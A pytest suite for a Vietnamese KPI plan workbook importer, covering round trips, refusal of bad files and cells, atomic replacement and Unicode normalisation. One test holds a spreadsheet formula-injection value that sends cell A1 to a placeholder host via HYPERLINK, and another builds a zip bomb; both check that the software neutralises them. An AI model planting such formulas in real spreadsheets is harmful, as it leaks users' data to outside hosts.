"""The plan workbook: lossless round trip, and every bad input refused with nothing written."""
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import fingerprint
from kpi.excel import plan_workbook
from kpi.db import plan_store
from kpi.plans import io
from kpi.problems import ImportRejected, Severity
from tests import backend

PLANS = ["syt-thanh-hoa-2021", "syt-thanh-hoa-2022", "syt-dong-nai-2023", "sct-2021", "syt-lai-chau-2021"]


@pytest.mark.parametrize("plan_id", PLANS)
def test_import_export_import_is_lossless(plan_id, seeded_db, tmp_path, fresh_db):
    first = plan_store.load_bundle(seeded_db, plan_id)
    exported = io.export_workbook(seeded_db, plan_id, tmp_path / "once.xlsx")
    io.import_workbook(fresh_db, exported)
    again = io.export_workbook(fresh_db, plan_id, tmp_path / "twice.xlsx")
    assert plan_store.load_bundle(fresh_db, plan_id) == first
    assert io.check_workbook(fresh_db, again) == io.check_workbook(fresh_db, exported)


def _reject(con, path, **kwargs) -> list[tuple]:
    before = fingerprint(con)
    with pytest.raises(ImportRejected) as rejected:
        io.import_workbook(con, path, **kwargs)
    assert fingerprint(con) == before, "a rejected workbook changed the database"
    for problem in rejected.value.problems:  # every message is Vietnamese text, no exception names
        assert problem.message and "Error" not in problem.message and "Traceback" not in problem.message
        assert unicodedata.is_normalized("NFC", problem.message)
    return [(p.sheet, p.rows, p.column, p.code) for p in rejected.value.errors]


def edited(edit, plan_id: str, sheet: str, code: str, key: str, value) -> tuple[Path, int]:
    """A copy of the plan's workbook with one cell (the row of `code`, column `key`) set; its path and row."""
    e = edit(plan_id)
    row = e.row_of(sheet, code)
    return e.set(sheet, row, key, value).save(), row


def test_missing_sheet_is_named(edit, fresh_db):
    path = edit("sct-2021").drop_sheet("Nhiệm vụ").save()
    assert _reject(fresh_db, path) == [("Nhiệm vụ", (), None, "sheet_missing")]


def test_missing_column_is_named(edit, fresh_db):
    path = edit("sct-2021").drop_column("Chỉ tiêu", "comparator").save()
    assert _reject(fresh_db, path) == [("Chỉ tiêu", (), None, "column_missing")]


def test_unknown_area_heading(edit, fresh_db):
    path, row = edited(edit, "sct-2021", "Chỉ tiêu", "CT03", "area", "Cải cách lung tung")
    assert _reject(fresh_db, path) == [("Chỉ tiêu", (row,), "B", "area_unknown")]


def test_duplicate_target_code(edit, fresh_db):
    path, row = edited(edit, "syt-dong-nai-2023", "Chỉ tiêu", "CT05", "code", "CT04")
    assert _reject(fresh_db, path) == [("Chỉ tiêu", (row,), "A", "duplicate_code")]


@pytest.mark.parametrize("column, value, code", [
    ("comparator", "khoảng", "comparator_unreadable"),
    ("value", "9O%", "value_unreadable"),
    ("value", "tối thiêu 70", "value_unreadable"),
], ids=["comparator-khoang", "value-9O", "value-toi-thieu-70"])
def test_unreadable_comparator_or_value(edit, fresh_db, column, value, code):
    path, row = edited(edit, "syt-dong-nai-2023", "Chỉ tiêu", "CT06", column, value)
    letter = {"comparator": "D", "value": "E"}[column]
    assert _reject(fresh_db, path) == [("Chỉ tiêu", (row,), letter, code)]


def test_unknown_lead_unit(edit, fresh_db):
    path, row = edited(edit, "syt-thanh-hoa-2021", "Nhiệm vụ", "I.1", "lead_units", "Phòng Không Tồn Tại")
    assert _reject(fresh_db, path) == [("Nhiệm vụ", (row,), "F", "unit_unknown")]


@pytest.mark.parametrize("plan_id, sheet, code, key, typed, expected", [
    ("sct-2021", "Chỉ tiêu", "CT03", "area", "Cải cách TTHC", "thu_tuc_hanh_chinh"),  # a known area heading
    ("syt-dong-nai-2023", "Chỉ tiêu", "CT06", "value", "72,5%", 72.5),  # typed the Vietnamese way
    ("syt-thanh-hoa-2021", "Nhiệm vụ", "I.1", "lead_units", "vp sở; TCCB", ("VPS", "TCCB")),  # alias or code
], ids=["area-as-known-heading", "value-vietnamese-decimal", "lead-unit-by-alias-or-code"])
def test_a_cell_written_another_way_is_read(edit, fresh_db, plan_id, sheet, code, key, typed, expected):
    path, _ = edited(edit, plan_id, sheet, code, key, typed)
    bundle = io.import_workbook(fresh_db, path)
    items = bundle.targets if sheet == "Chỉ tiêu" else bundle.tasks
    assert getattr(next(t for t in items if t.code == code), key) == expected


def test_unparseable_deadline_is_accepted_and_flagged(edit, fresh_db):
    path, row = edited(edit, "syt-thanh-hoa-2021", "Nhiệm vụ", "I.2", "deadline_text", "Lúc nào rảnh thì làm")
    bundle = io.import_workbook(fresh_db, path)
    assert [(w.code, w.rows, w.severity) for w in bundle.warnings] == \
        [("deadline_unparsed", (row,), Severity.WARNING)]
    stored = fresh_db.execute("SELECT deadline_text, deadline_kind, due_date, flags FROM task "
                              "WHERE plan_id = 'syt-thanh-hoa-2021' AND code = 'I.2'").fetchone()
    assert stored == ("Lúc nào rảnh thì làm", "unknown", None, "deadline_unparsed")


def test_all_problems_are_reported_at_once(edit, fresh_db):
    e = edit("syt-dong-nai-2023")
    r1, r2 = e.row_of("Chỉ tiêu", "CT06"), e.row_of("Nhiệm vụ", "I.2")
    path = e.set("Chỉ tiêu", r1, "value", "9O%").set("Nhiệm vụ", r2, "lead_units", "Ai đó").save()
    assert [c[3] for c in _reject(fresh_db, path)] == ["value_unreadable", "unit_unknown"]


def test_csv_renamed_xlsx_says_what_it_is(tmp_path, fresh_db):
    path = tmp_path / "ke-hoach.xlsx"
    path.write_text("Mã;Nội dung\nCT01;100% hồ sơ\n", encoding="utf-8")
    problems = _reject(fresh_db, path)
    assert problems == [(None, (), None, "file_not_xlsx")]


def test_zero_byte_file(tmp_path, fresh_db):
    path = tmp_path / "rong.xlsx"
    path.write_bytes(b"")
    assert _reject(fresh_db, path) == [(None, (), None, "file_empty")]


def test_workbook_without_plan_sheets(tmp_path, fresh_db):
    path = tmp_path / "trong.xlsx"
    openpyxl.Workbook().save(path)
    assert _reject(fresh_db, path) == [(None, (), None, "workbook_empty")]


def test_encrypted_workbook_is_refused_with_a_fix(tmp_path, fresh_db):
    # An encrypted OOXML file is a CFB container holding an "EncryptionInfo" stream.
    path = tmp_path / "mat-khau.xlsx"
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le"))
    assert _reject(fresh_db, path) == [(None, (), None, "file_encrypted")]


def test_truncated_workbook(exported_workbooks, tmp_path, fresh_db):
    data = exported_workbooks["sct-2021"].read_bytes()
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: len(data) // 2])
    assert _reject(fresh_db, path) == [(None, (), None, "file_corrupt")]


def test_zip_bomb_is_refused_before_parsing(tmp_path, fresh_db):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (plan_workbook.safety.MAX_UNPACKED_BYTES + 1))
    assert _reject(fresh_db, path) == [(None, (), None, "file_too_large")]


def test_existing_plan_is_replaced_only_when_asked(exported_workbooks, seeded_db, edit):
    assert _reject(seeded_db, exported_workbooks["sct-2021"]) == [(None, (), None, "plan_exists")]
    path, _ = edited(edit, "sct-2021", "Chỉ tiêu", "CT03", "value", 75)
    io.import_workbook(seeded_db, path, replace=True)
    values = seeded_db.execute("SELECT value FROM target WHERE plan_id = 'sct-2021' AND code = 'CT03'").fetchall()
    assert values == [(75.0,)]


def test_replacing_with_a_bad_workbook_keeps_the_old_plan(seeded_db, edit):
    path, _ = edited(edit, "sct-2021", "Chỉ tiêu", "CT03", "value", "bảy mươi")
    assert [c[3] for c in _reject(seeded_db, path, replace=True)] == ["value_unreadable"]


def test_replace_is_atomic_when_the_database_refuses_midway(seeded_db, exported_workbooks, monkeypatch):
    """A failure after the old rows are deleted must leave the old plan in place."""
    before = fingerprint(seeded_db)

    def fail(*args, **kwargs):
        raise RuntimeError("disk full (simulated)")
    monkeypatch.setattr(plan_store, "_insert_plan", fail)
    with pytest.raises(RuntimeError, match="disk full"):  # the simulated failure, not another one
        io.import_workbook(seeded_db, exported_workbooks["sct-2021"], replace=True)
    assert fingerprint(seeded_db) == before


def test_text_that_looks_like_a_formula_is_exported_inert(seeded_db, tmp_path, edit, fresh_db):
    e = edit("sct-2021")
    formula = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    io.import_workbook(fresh_db, e.set("Nhiệm vụ", e.row_of("Nhiệm vụ", "1"), "product", formula).save())
    out = io.export_workbook(fresh_db, "sct-2021", tmp_path / "out.xlsx")
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s for s in sheets)
    book = openpyxl.load_workbook(out)
    values = [c.value for row in book["Nhiệm vụ"].iter_rows() for c in row]
    assert formula in values


def test_decomposed_text_is_stored_as_nfc(edit, fresh_db):
    e = edit("sct-2021")
    decomposed = unicodedata.normalize("NFD", "Rà soát văn bản")
    io.import_workbook(fresh_db, e.set("Nhiệm vụ", e.row_of("Nhiệm vụ", "1"), "text", decomposed).save())
    stored = fresh_db.execute("SELECT text FROM task WHERE plan_id = 'sct-2021' AND code = '1'").fetchone()[0]
    assert stored == "Rà soát văn bản" and unicodedata.is_normalized("NFC", stored)


def test_columns_may_be_reordered_and_extra_columns_ignored(exported_workbooks, tmp_path, fresh_db):
    book = openpyxl.load_workbook(exported_workbooks["syt-lai-chau-2021"])
    sheet = book["Chỉ tiêu"]
    sheet.insert_cols(1)
    sheet.cell(row=1, column=1, value="Ghi chú riêng của phòng")
    sheet.move_range("D1:D200", cols=10)  # "text" moves right, past the other columns
    path = tmp_path / "moved.xlsx"
    book.save(path)
    bundle = io.import_workbook(fresh_db, path)
    assert len(bundle.targets) == 11 and bundle.targets[0].text.startswith("Trên 90%") is False


def test_database_refuses_duplicates_itself(seeded_db):
    import duckdb
    # DuckDB names its own refusal; through the postgres extension PostgreSQL's comes back as a failed COPY
    refused = (duckdb.Error, "duplicate key value violates unique constraint") if backend.ON_POSTGRES else \
        (duckdb.ConstraintException, "Duplicate key.*violates primary key")
    with pytest.raises(refused[0], match=refused[1]):
        seeded_db.execute("INSERT INTO target SELECT * FROM target WHERE plan_id = 'sct-2021' LIMIT 1")


def test_no_row_is_orphaned(seeded_db):
    orphans = seeded_db.execute("""
        SELECT 'target_unit', count(*) FROM target_unit tu LEFT JOIN unit u
            ON u.org_id = tu.org_id AND u.code = tu.unit_code WHERE u.code IS NULL
        UNION ALL SELECT 'task_unit', count(*) FROM task_unit tu LEFT JOIN unit u
            ON u.org_id = tu.org_id AND u.code = tu.unit_code WHERE u.code IS NULL
        UNION ALL SELECT 'conflict', count(*) FROM target_conflict c LEFT JOIN target t
            ON t.plan_id = c.plan_id AND t.code = c.target_code WHERE t.code IS NULL
        UNION ALL SELECT 'target_task', count(*) FROM target t LEFT JOIN task k
            ON k.plan_id = t.plan_id AND k.code = t.task_code WHERE t.task_code IS NOT NULL AND k.code IS NULL
    """).fetchall()
    assert all(n == 0 for _, n in orphans), orphans
